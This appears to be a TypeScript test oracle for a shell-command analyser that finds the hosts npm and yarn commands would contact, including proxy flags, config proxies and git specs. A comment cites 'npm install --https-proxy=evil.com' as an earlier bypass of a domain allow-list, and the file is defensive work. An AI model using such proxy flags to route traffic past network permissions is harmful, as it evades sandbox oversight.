// urlsInWords as it was before session 42's p12 (src/shell/url-words.ts): a first pass for the
// runner's bound, schemelessHosts on every plain word. The oracle of
// test/shell-npm-readers-gates.property.test.ts. (urlsIn is urlsAfterColon after the word's first `:`.)
import type { FileTouches } from '../../src/shell/file-touches.js';
import { FETCHING_SUBCOMMANDS, urlsIn } from '../../src/shell/url-words.js';

const RUNNER_OPTIONS_READ = 16;

export function urlsInWordsBefore(words: readonly string[], dynamic: readonly boolean[], t: FileTouches): void {
  let fetching = false;
  let end = words.length;
  for (let i = 1; i < words.length; i++) {
    if (words[i] === 'run' || words[i] === 'exec') {
      end = Math.min(words.length, i + 1 + RUNNER_OPTIONS_READ);
      break;
    }
  }
  for (let i = 1; i < end; i++) {
    const w = words[i] ?? '';
    if (dynamic[i]) {
      if (fetching) t.url(w, true);
      continue;
    }
    if (FETCHING_SUBCOMMANDS.has(w)) fetching = true;
    const colon = w.indexOf(':');
    urlsIn(w, t);
    schemelessHosts(w, colon, i > 1 && !dynamic[i - 1] ? words[i - 1]! : '', t);
  }
}

/** An npm git spec in scp form (`git@h:o/r.git`), as npm-package-arg reads it (a user, a dot in the host). */
const GIT_SCP_SPEC = /^[^@/\s]+@([^:/\s]+\.[^:/\s]+):./;
/** Shorthands of hosted git specs (`github:o/r`) and the host they fetch from. */
const HOSTED_GIT: ReadonlyMap<string, string> = new Map([['github', 'github.com'], ['gitlab', 'gitlab.com'], ['bitbucket', 'bitbucket.org'], ['gist', 'gist.github.com']]);

/** schemelessHosts without its gates (proxyOrConfig, the `@` and shorthand-length tests): each reads every word. */
function schemelessHosts(w: string, colon: number, previous: string, t: FileTouches): void {
  const eq = w.startsWith('--pr') || w.startsWith('--ht') ? w.indexOf('=') : -1;
  const config = previous === '--config' ? w : w.startsWith('--config=') ? w.slice(9) : undefined;
  const proxy = proxyOption(previous) ? w : eq > 0 && proxyOption(w.slice(0, eq)) ? w.slice(eq + 1)
    : config === undefined ? undefined : /^(?:https?\.)?proxy\s*=\s*["']?([^"'\s]*)/.exec(config)?.[1];
  if (proxy !== undefined && proxy !== '' && !proxy.includes('://')) t.url(`http://${proxy}/`, false);
  if (colon <= 0) return;
  const scp = GIT_SCP_SPEC.exec(w);
  if (scp !== null && !w.includes('://')) t.url(`ssh://${scp[1]}/`, false);
  const hosted = HOSTED_GIT.get(w.slice(0, colon));
  if (hosted !== undefined) t.url(`https://${hosted}/`, false);
}

function proxyOption(name: string): boolean {
  // (npm's and yarn's `--https-proxy h:8080` too: `npm install --https-proxy=evil.com` was allowed beside Domain(evil.com).)
  return (name.length >= 4 && '--proxy'.startsWith(name)) || name === '--https-proxy' || name === '--http-proxy';
}
